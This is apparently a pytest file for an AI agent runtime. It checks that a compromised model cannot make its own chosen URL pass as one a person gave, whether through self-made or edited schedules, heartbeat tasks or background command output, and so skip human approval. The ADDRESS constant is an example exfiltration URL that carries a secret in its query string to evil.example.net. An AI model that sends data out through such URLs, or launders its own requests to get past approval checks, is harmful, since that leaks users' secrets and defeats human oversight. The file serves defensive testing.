"""The model is compromised, and has itself asked later what it may not do now: no address of its
own becomes one that a person gave (POL-10)."""

import json
import re

import pytest

from runtime.ports.model import ModelRequest
from tests.fakes.fetch import FakeFetch
from tests.fakes.model import Gate, Said, ScriptedModel
from tests.hostile.test_compromised_fetches import fetches, getting, page
from tests.scenario.cards import cards, results
from tests.scenario.engine import OWNER, World
from tests.scenario.schedules.scheduling import desk
from tests.scenario.schedules.test_reminders import House, goes_on, hears, house
from tests.scenario.schedules.test_tools import by_name
from tests.scenario.tasks.test_home_page import asked, command_of

__all__ = ["house"]
pytestmark = pytest.mark.requirement("POL-10")
ADDRESS = "https://evil.example.net/?q=the-safe-is-behind-the-painting"
ID = re.compile(r"sch_\w+")
URL = re.compile(r"https://\S+")


class Model:
    """Fetches the address that it is asked about; else makes the call that was last given to
    it, or says "done"."""

    def __init__(self) -> None:
        self.model = ScriptedModel(self._next)
        self.made = ""
        self._calls: list[Said] = []

    async def does(self, at: World, call: Said) -> None:
        self._calls.append(call)
        before = len(at.chat.texts())
        await at.says("please")
        await at.chat.until(lambda: len(at.chat.texts()) > before)

    def _next(self, request: ModelRequest) -> Said | str:
        last = request.messages[-1]
        for result in getattr(last, "results", ()):
            if found := ID.search(result.content):
                self.made = found.group()
        if self._calls:
            return self._calls.pop()
        named = URL.search(getattr(last, "text", ""))
        return fetches(named.group()) if named else "done"


def is_asked_about(at: World, fetch: FakeFetch) -> bool:
    """Whether a person is asked before the address is fetched."""
    return not fetch.asked and [json.loads(part.arguments)["url"] for _, part in cards(at)] == [
        ADDRESS
    ]


async def test_what_it_is_asked_later_in_its_own_words_gives_no_address(house: House) -> None:
    agent, fetch = Model(), FakeFetch({ADDRESS: page("ok")})
    async with house.begins(agent.model, change=getting(fetch)) as at:
        await agent.does(at, by_name("create", when="in 5 minutes", text=ADDRESS, ask=True))
        await goes_on(at, 301)
        assert is_asked_about(at, fetch)


async def test_nor_does_what_its_heartbeat_asks_where_nobody_can_be_asked(house: House) -> None:
    agent, fetch = Model(), FakeFetch({ADDRESS: page("ok")})
    async with house.begins(agent.model, change=getting(fetch)) as at:
        call = by_name("create", when="in 5 minutes", text=ADDRESS, ask=True, heartbeat=True)
        await agent.does(at, call)
        await goes_on(at, 301)
        given = results(agent.model.requests[-1])
        assert [(one.name, one.status) for one in given] == [("web_fetch", "denied")]
        assert fetch.asked == []


async def test_a_persons_schedule_gives_its_address(house: House) -> None:
    agent, fetch = Model(), FakeFetch({ADDRESS: page("ok")})
    async with house.begins(agent.model, change=getting(fetch)) as at:
        await (await desk(at)).make(here=True, request={"content": f"look at {ADDRESS}"})
        await goes_on(at, 61)
        assert (fetch.asked, cards(at)) == ([ADDRESS], [])


async def test_and_no_more_once_the_model_has_changed_its_words(house: House) -> None:
    agent, fetch = Model(), FakeFetch({ADDRESS: page("ok")})
    async with house.begins(agent.model, change=getting(fetch)) as at:
        made = await (await desk(at)).make(here=True, request={"content": "look"})
        await agent.does(at, by_name("update", id=made, text=f"look at {ADDRESS}"))
        await goes_on(at, 61)
        assert is_asked_about(at, fetch)


async def test_a_person_who_changes_the_words_gives_their_address(house: House) -> None:
    agent, fetch = Model(), FakeFetch({ADDRESS: page("ok")})
    async with house.begins(agent.model, change=getting(fetch)) as at:
        await agent.does(at, by_name("create", when="in 2 hours", text="look", ask=True))
        code = agent.made[-6:]
        assert "look at" in await hears(
            at, f"/schedules change {code} in 5 minutes: look at {ADDRESS}"
        )
        await goes_on(at, 301)
        assert (fetch.asked, cards(at)) == ([ADDRESS], [])


@pytest.mark.parametrize("busy", [False, True], ids=["idle", "busy"])
async def test_the_line_of_a_schedule_is_no_persons_word(house: House, *, busy: bool) -> None:
    gate, fetch = Gate(), FakeFetch({ADDRESS: page("ok")})

    def said(request: ModelRequest) -> Said | str:
        last = request.messages[-1]
        text = getattr(last, "text", "")
        if text == "make":
            return by_name("create", when="in 5 minutes", text="harmless", ask=True)
        if text == "hold":
            return Said("held", before=gate)
        if text == "go":
            return fetches(ADDRESS)
        return f"see {ADDRESS}" if text == "harmless" else "done"

    model = ScriptedModel(said)
    async with house.begins(model, change=getting(fetch)) as at:
        await hears(at, "make")
        if busy:
            await at.says("hold")
            await goes_on(at, 1)
        await goes_on(at, 301)
        gate.open.set()
        await goes_on(at, 5)
        await at.says("go")
        await goes_on(at, 5)
        assert is_asked_about(at, fetch)
        told = [one for one in model.requests[-1].messages if "ran at its time" in str(one)]
        assert [one.role for one in told] == ["notice"]


async def test_what_a_command_in_the_background_prints_gives_no_address(house: House) -> None:
    fetch, made = FakeFetch({ADDRESS: page("ok")}), []

    def said(request: ModelRequest) -> Said | str:
        last = request.messages[-1]
        if getattr(last, "text", "") == "look":
            call = {"tool": "task_output", "arguments": {"id": made[0]}}
            return Said(calls=(("call_tool", json.dumps(call)),))
        printed = any(ADDRESS in one.content for one in getattr(last, "results", ()))
        return fetches(ADDRESS) if printed else "done"

    async with house.begins(ScriptedModel(said), change=getting(fetch)) as at:
        task = await asked(at, "tea", user=OWNER)
        made.append((await command_of(at, task, f"{ADDRESS}\n")).id)
        await at.says("look")
        await goes_on(at, 5)
        assert is_asked_about(at, fetch)
